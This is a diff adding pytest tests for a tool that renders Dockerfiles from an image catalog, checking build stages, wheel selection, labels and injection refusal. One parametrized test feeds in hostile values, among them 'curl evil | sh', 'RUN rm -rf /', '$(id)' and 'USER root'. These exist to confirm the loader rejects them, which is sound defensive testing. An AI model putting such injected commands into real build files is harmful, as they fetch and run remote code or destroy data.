@@ -1,0 +1,104 @@
+"""Rendering: one Dockerfile per image, CA bundle and wheels kept to the build stage, and nothing
+from the catalog reaches a Dockerfile unless it matches a strict pattern."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from orchestrator.catalog import load_catalog
+from orchestrator.errors import SpecError
+from orchestrator.images import BuildOptions, labels_for, prepare_context, render, render_all
+
+CATALOG = Path("images/catalog.yaml")
+
+
+@pytest.fixture(scope="module")
+def catalog():
+    return load_catalog()
+
+
+def stages(dockerfile: str) -> list[str]:
+    return dockerfile.split("\nFROM ")[1:]
+
+
+def test_render_all_writes_one_dockerfile_per_image(tmp_path, catalog):
+    written = render_all(catalog, tmp_path)
+    assert len(written) == len(catalog.images)
+    assert (tmp_path / "benchmatrix_mxnet_1.9.1-cpu" / "Dockerfile").is_file()
+
+
+def test_ca_bundle_and_wheelhouse_stay_in_build_stage(catalog):
+    torch = catalog.find("pytorch", "2.13.0", "cpu")[0]
+    build_stage, runtime_stage = stages(render(catalog, torch, ca_bundle=True, wheelhouse=True))
+    assert "PIP_CERT=/tmp/benchmatrix/ca-bundle.crt" in build_stage
+    assert "--find-links /tmp/benchmatrix/wheelhouse" in build_stage
+    assert "--extra-index-url" not in build_stage
+    assert "benchmatrix/ca-bundle" not in runtime_stage and "PIP_CERT" not in runtime_stage
+    assert "COPY --from=build /opt/venv /opt/venv" in runtime_stage
+    assert "g++ python3-dev" in runtime_stage
+
+
+def test_online_torch_uses_the_cpu_index(catalog):
+    torch = catalog.find("pytorch", "2.13.0", "cpu")[0]
+    dockerfile = render(catalog, torch, ca_bundle=False, wheelhouse=False)
+    assert "--extra-index-url https://download.pytorch.org/whl/cpu" in dockerfile
+    assert "PIP_CERT" not in dockerfile
+
+
+def test_context_holds_only_the_entrys_wheels(tmp_path, catalog):
+    wheelhouse = tmp_path / "wheels"
+    wheelhouse.mkdir()
+    (wheelhouse / "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"w")
+    (wheelhouse / "scipy-1.0-cp311-cp311-manylinux_2_28_x86_64.whl").write_bytes(b"s")
+    ca = tmp_path / "ca.crt"
+    ca.write_text("CERT")
+    context = tmp_path / "ctx"
+    context.mkdir()
+    torch = catalog.find("pytorch", "2.13.0", "cpu")[0]
+    prepare_context(catalog, torch, BuildOptions(ca_bundle=ca, wheelhouse=wheelhouse), context)
+    assert sorted(p.name for p in (context / "wheelhouse").iterdir()) == [
+        "torch-2.13.0+cpu-cp311-cp311-manylinux_2_28_x86_64.whl"
+    ]
+    assert (context / "ca-bundle.crt").read_text() == "CERT"
+
+
+def test_labels_carry_oci_keys_and_entry_hash(catalog):
+    mxnet = catalog.find("mxnet", "1.9.1", "cpu")[0]
+    labels = labels_for(catalog, mxnet)
+    assert labels["org.opencontainers.image.version"] == "1.9.1"
+    assert labels["io.benchmatrix.catalog-hash"] == catalog.entry_hash(mxnet)
+    other = catalog.find("mxnet", "1.6.0", "mkl")[0]
+    assert catalog.entry_hash(other) != catalog.entry_hash(mxnet)
+
+
+@pytest.mark.parametrize(
+    "needle, replacement, key_path",
+    [
+        ('"mxnet==1.9.1", "numpy<1.24"]', '"mxnet==1.9.1 && curl evil | sh"]', "images.6.pip.0"),
+        ("apt: [libgomp1,", 'apt: ["libgomp1\\nRUN rm -rf /",', "images.6.apt.0"),
+        (
+            'TF_CPP_MIN_LOG_LEVEL: "2"}\n    description: TensorFlow 2.21 CPU',
+            'TF_CPP_MIN_LOG_LEVEL: "2 $(id)"}\n    description: TensorFlow 2.21 CPU',
+            "images.0.env.TF_CPP_MIN_LOG_LEVEL",
+        ),
+        ('version: "2.21.0"\n    variant: cpu', 'version: "2.21.0\\nUSER root"\n    variant: cpu', "images.0.version"),
+    ],
+)
+def test_injection_is_refused_before_rendering(tmp_path, needle, replacement, key_path):
+    text = CATALOG.read_text()
+    assert needle in text
+    path = tmp_path / "catalog.yaml"
+    path.write_text(text.replace(needle, replacement, 1))
+    from orchestrator.catalog import load_catalog as load
+
+    with pytest.raises(SpecError) as caught:
+        load(path)
+    assert caught.value.key_path == key_path
+    assert "matching" in caught.value.expected
+
+
+def test_unbuildable_entry_says_why(catalog):
+    tf1 = catalog.find("tensorflow", "1.15.5")[0]
+    assert "Python <= 3.7" in tf1.unbuildable
